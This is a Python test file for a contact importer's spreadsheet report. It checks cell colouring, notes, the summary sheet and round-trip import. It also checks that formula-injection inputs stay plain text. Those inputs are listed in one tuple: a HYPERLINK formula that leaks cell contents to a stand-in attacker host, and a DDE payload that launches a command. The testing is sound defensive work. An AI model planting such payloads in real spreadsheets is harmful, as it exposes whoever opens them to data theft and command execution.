"""The XLSX report: the sheet as it was, with its faults marked; mended, it imports as it is."""

from __future__ import annotations

import csv
import re
import shutil
import subprocess
from dataclasses import replace
from pathlib import Path

import openpyxl
import pytest
import xlsxwriter
from openpyxl.worksheet.worksheet import Worksheet

import importer.reports.workbook_report
from importer.model import Checkup
from importer.reports.workbook_report import NOTES, write_workbook
from tests.reports.conftest import HOSTILE, Examine
from tests.support.command import Cli

SOFFICE = shutil.which("soffice")
ROOT = Path(__file__).parents[2]


def copy_of(checkup: Checkup, path: Path) -> Worksheet:
    write_workbook(path, checkup)
    return openpyxl.load_workbook(path).worksheets[0]


RUN_BY_PROGRAMS = (
    '=HYPERLINK("http://attack.example/?"&A1)',
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "=cmd|' /C calc'!A1",
    "{=1+1}",
    "\t=1+1",
)


def test_no_cell_of_a_workbook_is_run_by_a_spreadsheet_program(cli: Cli, tmp_path: Path) -> None:
    """`failures.csv` keeps such cells as they came; the workbooks beside it have them as text."""
    with (tmp_path / "list.csv").open("w", encoding="utf-8", newline="") as file:
        lines = csv.writer(file)
        lines.writerow(["Name", "Phone", "=1+2"])
        lines.writerows([text, "no phone", text] for text in RUN_BY_PROGRAMS)
    (tmp_path / "m.yaml").write_text(
        "version: 1\nregion: HU\nform: {name: Name}\ncontacts: {1: {phone: Phone}}\n", "utf-8"
    )
    out, report = tmp_path / "out", tmp_path / "report.xlsx"
    given = ("list.csv", "-m", "m.yaml", "--out", out, "--report", report)
    assert cli("run", *given, "--sandbox", "--header-row", 1, "--max-failures", "100%") == 1
    assert RUN_BY_PROGRAMS[0].replace('"', '""') in (out / "failures.csv").read_text("utf-8")
    for path in (out / "failures.xlsx", report):
        book = openpyxl.load_workbook(path)
        cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
        assert {cell.data_type for cell in cells} <= {"s", "n"}
        texts = [cell.value for cell in cells if cell.data_type == "s"]
        assert {text.strip() for text in RUN_BY_PROGRAMS} <= {str(text).strip() for text in texts}
        assert not [cell for cell in cells if cell.hyperlink]


def by_row(checkup: Checkup) -> list[tuple[object, ...]]:
    assert checkup.findings is not None
    return [
        (p.row, p.column, p.target, p.code, p.message, p.value, p.hint, p.severity)
        for p in checkup.findings.problems()
        if p.row is not None
    ]


def test_bad_cells_are_coloured_and_say_what_to_do(checkup: Checkup, tmp_path: Path) -> None:
    sheet = copy_of(checkup, tmp_path / "r.xlsx")
    headers = [cell.value for cell in sheet[1]]
    assert headers == ["Name", "City", "Phone", "E-mail", "Extra", NOTES]
    marked = {
        cell.coordinate: cell.fill.fgColor.rgb
        for row in sheet.iter_rows(min_row=2, max_col=5)
        for cell in row
        if cell.fill.fill_type
    }
    assert set(marked) == {"D3", "C4", "A5", "A6"}
    assert marked["C4"] == marked["D3"] != marked["A5"]  # a duplicate is a warning
    assert {c.coordinate for row in sheet for c in row if c.comment} == set(marked)
    assert sheet["C4"].comment is not None
    assert "the cell holds a formula" in sheet["C4"].comment.text
    assert "→ fill in the cell" in str(sheet["F6"].value)
    assert sheet["F2"].value is None
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == "A1:F6"


def test_every_cell_is_text_and_stays_what_it_was(checkup: Checkup, tmp_path: Path) -> None:
    sheet = copy_of(checkup, tmp_path / "r.xlsx")
    assert [cell.value for cell in sheet[4]][:5] == [HOSTILE, "Győr", "=A12", None, "c"]
    assert sheet["E6"].value == "line\nbreak"
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert {cell.data_type for cell in cells} == {"s"}
    assert {cell.number_format for cell in cells} == {"@"}
    assert {c.number_format for c in sheet.column_dimensions.values()} == {"@"}


def test_the_last_sheet_is_the_summary(checkup: Checkup, tmp_path: Path) -> None:
    copy_of(checkup, tmp_path / "r.xlsx")
    book = openpyxl.load_workbook(tmp_path / "r.xlsx")
    assert book.sheetnames == ["leads", "Summary"]
    texts = [cell.value for row in book["Summary"] for cell in row]
    assert texts[0] == "3 of 5 rows need mending"
    assert "Red cells" in " ".join(str(text) for text in texts)


def test_figures_of_the_summary_are_numbers(checkup: Checkup, tmp_path: Path) -> None:
    copy_of(checkup, tmp_path / "r.xlsx")
    sheet = openpyxl.load_workbook(tmp_path / "r.xlsx")["Summary"]
    found = {row[0].value: row[1] for row in sheet if isinstance(row[1].value, int | float)}
    assert (found["Rows"].value, found["Ready"].value) == (5, 1)
    assert found["Invalid: to be mended"].value == 3
    assert found["Rows that can be called"].value == 1
    assert found["Required (required)"].value == 1
    assert (found["Name"].value, found["Name"].number_format) == (0.8, "0.0 %")
    # Nothing that looks like a figure is text.
    texts = [cell.value for row in sheet for cell in row if isinstance(cell.value, str)]
    assert not [text for text in texts if re.fullmatch(r"[\d.,]+ ?%?", text)]


def test_the_copy_gives_the_same_problems_row_by_row(
    examine: Examine, leads: Path, mapping: Path, tmp_path: Path
) -> None:
    found = examine(leads, mapping)
    write_workbook(tmp_path / "leads.xlsx", found)
    again = examine(tmp_path / "leads.xlsx", mapping)
    assert by_row(again) == by_row(found)
    assert again.info.header_row == found.info.header_row
    assert again.unused_columns == found.unused_columns
    # A copy of the copy has one column of notes, not two.
    write_workbook(tmp_path / "third.xlsx", again)
    third = openpyxl.load_workbook(tmp_path / "third.xlsx").worksheets[0]
    assert [cell.value for cell in third[1]].count(NOTES) == 1


def test_the_sample_comes_back_with_its_rows_sheet_and_header_where_they_were(
    examine: Examine, tmp_path: Path
) -> None:
    mapping = ROOT / "mappings/leads.yaml"
    found = examine(ROOT / "samples/leads.xlsx", mapping)
    write_workbook(tmp_path / "leads.xlsx", found)
    again = examine(tmp_path / "leads.xlsx", mapping)
    assert by_row(again) == by_row(found)
    assert (again.info.sheet, again.info.header_row) == ("Leads", 3)
    assert again.survey.rows == found.survey.rows


def test_a_mapping_that_names_the_sheet_by_its_number_fits_the_copy(
    examine: Examine, mapping: Path, tmp_path: Path
) -> None:
    with xlsxwriter.Workbook(str(tmp_path / "two.xlsx")) as book:
        book.add_worksheet("Cover").write_string(0, 0, "Hello")
        sheet = book.add_worksheet("Summary")
        for row, cells in enumerate([("Name", "City", "Phone", "E-mail"), ("Ann", "X", "12", "")]):
            sheet.write_row(row, 0, cells)
    mapping.write_text(mapping.read_text("utf-8") + "source: {sheet: 2}\n", "utf-8")
    found = examine(tmp_path / "two.xlsx", mapping)
    write_workbook(tmp_path / "r.xlsx", found)
    again = examine(tmp_path / "r.xlsx", mapping)
    assert (again.info.sheet, by_row(again)) == ("Summary", by_row(found))
    assert openpyxl.load_workbook(tmp_path / "r.xlsx").active.title == "Summary"  # type: ignore[union-attr]


def test_a_bad_name_for_a_sheet_is_made_a_good_one(checkup: Checkup, tmp_path: Path) -> None:
    for name in ("a/b:c?*[x]" + "y" * 40, "History", "'q'", "😀" * 31, "\x01"):
        named = replace(checkup, info=replace(checkup.info, sheet=name))
        assert copy_of(named, tmp_path / "r.xlsx").title


def test_what_does_not_fit_is_left_out_and_said(
    checkup: Checkup, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(importer.reports.workbook_report, "SHEET_ROWS", 4)
    monkeypatch.setattr(importer.reports.workbook_report, "SHEET_COLUMNS", 5)
    monkeypatch.setattr(importer.reports.workbook_report, "MOST_COMMENTS", 1)
    said = write_workbook(tmp_path / "r.xlsx", checkup)
    assert [line.split(" ")[0] for line in said] == ["2", "1", "1"]
    book = openpyxl.load_workbook(tmp_path / "r.xlsx")
    assert (book.worksheets[0].max_row, book.worksheets[0].max_column) == (4, 5)
    texts = [cell.value for row in book["Summary"] for cell in row]
    assert set(said) <= set(texts)


@pytest.mark.skipif(SOFFICE is None, reason="LibreOffice is not installed")
def test_libreoffice_reads_the_same_cells(checkup: Checkup, tmp_path: Path) -> None:
    write_workbook(tmp_path / "r.xlsx", checkup)
    profile = f"-env:UserInstallation={(tmp_path / 'profile').as_uri()}"
    to = "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,1"
    subprocess.run(
        [
            str(SOFFICE),
            profile,
            "--headless",
            "--convert-to",
            to,
            "--outdir",
            tmp_path,
            tmp_path / "r.xlsx",
        ],
        capture_output=True,
        timeout=180,
        check=True,
    )
    [found] = tmp_path.glob("r*.csv")
    with found.open(encoding="utf-8", newline="") as file:
        rows = list(csv.reader(file))
    assert [row[:4] for row in rows[:4]] == [
        ["Name", "City", "Phone", "E-mail"],
        ["Ann", "Budapest", "06301234567", "ann@example.com"],
        ["Béla", "Pécs", "+36 20 123 4567", "no address"],
        [HOSTILE, "Győr", "=A12", ""],
    ]
